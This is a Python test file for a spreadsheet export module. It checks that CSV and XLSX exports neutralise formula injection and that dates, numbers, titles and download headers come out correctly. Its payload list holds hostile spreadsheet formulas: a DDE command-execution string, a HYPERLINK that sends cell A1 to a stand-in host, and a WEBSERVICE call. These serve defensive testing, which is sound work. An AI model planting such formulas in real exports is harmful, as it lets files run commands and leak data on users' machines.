"""What leaves as a table can't act as a formula, and comes back as it was."""

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.worksheet.worksheet import Worksheet

from tuoyu.base.kernel.web.spreadsheets import Table, as_download, escape, unescape, write_csv, write_xlsx

_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝", "＋", "－", "＠")
_COMMANDS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://192.0.2.1/?"&A1,"点我")',
    "SUM(1+9)*cmd|' /C calc'!A0",
    'WEBSERVICE("http://192.0.2.1")',
    "1+1",
)
PAYLOADS = [f"{start}{command}" for start in _STARTS for command in _COMMANDS]
AROUND = ("", " ", "　", "'", "''", "\u00a0", "\ufeff", "\u200b")


def _sheet(rows: Iterable[Sequence[Any]], notes: Sequence[str] = ()) -> Worksheet:
    stream = io.BytesIO()
    write_xlsx([Table("表", ["甲", "乙"], rows, notes)], stream)
    stream.seek(0)
    return openpyxl.load_workbook(stream).worksheets[0]


def _lines(rows: Iterable[Sequence[Any]]) -> list[list[str]]:
    stream = io.BytesIO()
    write_csv(Table("表", ["甲", "乙"], rows), stream)
    return list(csv.reader(io.StringIO(stream.getvalue().decode("utf-8-sig"), newline="")))


def test_there_are_sixty_payloads() -> None:
    assert len(set(PAYLOADS)) == 60


@pytest.mark.parametrize("before", AROUND)
def test_no_payload_becomes_a_formula_in_excel(before: str) -> None:
    texts = [before + payload for payload in PAYLOADS]
    sheet = _sheet([(text, 1) for text in texts])
    kinds = [sheet.cell(row, 1).data_type for row in range(2, len(texts) + 2)]
    assert kinds == ["s"] * len(texts)
    assert all(cell.hyperlink is None for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("before", AROUND)
def test_no_payload_stays_bare_in_csv_and_all_come_back(before: str) -> None:
    texts = [before + payload for payload in PAYLOADS]
    cells = [line[0] for line in _lines([(text, 1) for text in texts])[1:]]
    assert all(cell.startswith("'") for cell in cells)
    assert [unescape(cell) for cell in cells] == texts


@pytest.mark.parametrize("heading", ["=1+1", "@甲", "＝甲"])
def test_headings_are_escaped_too(heading: str) -> None:
    stream = io.BytesIO()
    write_csv(Table("表", [heading], []), stream)
    assert stream.getvalue().decode("utf-8-sig").lstrip('"').startswith("'")


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=30))
@settings(max_examples=400)
def test_any_text_comes_back_from_escaping(text: str) -> None:
    assert unescape(escape(text)) == text
    assert escape(text).lstrip()[:1] not in set("=+-@＝＋－＠")


def test_ordinary_text_is_left_alone() -> None:
    assert [escape(text) for text in ("大河家镇", "3-5 个", "a=b", "")] == ["大河家镇", "3-5 个", "a=b", ""]


def test_numbers_stay_numbers_and_days_stay_days() -> None:
    sheet = _sheet([(-5, Decimal("1280.50")), (date(2026, 11, 23), datetime(2026, 11, 23, 1, 20, tzinfo=UTC))])
    assert [sheet.cell(2, at).value for at in (1, 2)] == [-5, 1280.5]
    assert [sheet.cell(2, at).data_type for at in (1, 2)] == ["n", "n"]
    assert sheet.cell(3, 1).value == datetime(2026, 11, 23)  # noqa: DTZ001 - a spreadsheet knows no zones
    assert sheet.cell(3, 2).value == datetime(2026, 11, 23, 9, 20)  # noqa: DTZ001 - Shanghai's wall clock
    assert _lines([(-5, Decimal("1280.50"))])[1] == ["-5", "1280.50"]


def test_an_identity_number_keeps_every_digit() -> None:
    sheet = _sheet([("622927202401010011", 622927202401010011)])
    assert [sheet.cell(2, at).value for at in (1, 2)] == ["622927202401010011"] * 2


def test_a_number_that_is_none_is_written_as_words() -> None:
    sheet = _sheet([(float("nan"), float("inf"))])
    assert [sheet.cell(2, at).data_type for at in (1, 2)] == ["s", "s"]


def test_a_text_longer_than_a_cell_is_cut_and_says_so() -> None:
    value = _sheet([("长" * 40_000, "")]).cell(2, 1).value
    assert len(value) == 32_767
    assert value.endswith("已截断）")


def test_sentences_stand_above_the_headings() -> None:
    sheet = _sheet([("一", "二")], notes=["条件：全部"])
    assert [sheet.cell(row, 1).value for row in (1, 2, 3)] == ["条件：全部", "甲", "一"]


@pytest.mark.parametrize("title", ["a/b:c", "", "'名'", "很" * 40, "[x]*?"])
def test_any_title_makes_a_sheet(title: str) -> None:
    stream = io.BytesIO()
    write_xlsx([Table(title, ["甲"], [])], stream)
    assert 1 <= len(openpyxl.load_workbook(stream).sheetnames[0]) <= 31


@pytest.mark.parametrize(("kind", "start"), [("xlsx", b"PK"), ("csv", b"\xef\xbb\xbf")])
def test_a_download_has_a_chinese_name_and_the_right_kind(kind: str, start: bytes) -> None:
    response = as_download([Table("备案", ["甲"], [("一",)])], "备案-20261123", kind)
    assert b"".join(response.streaming_content).startswith(start)  # type: ignore[arg-type]
    assert f"%E5%A4%87%E6%A1%88-20261123.{kind}" in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
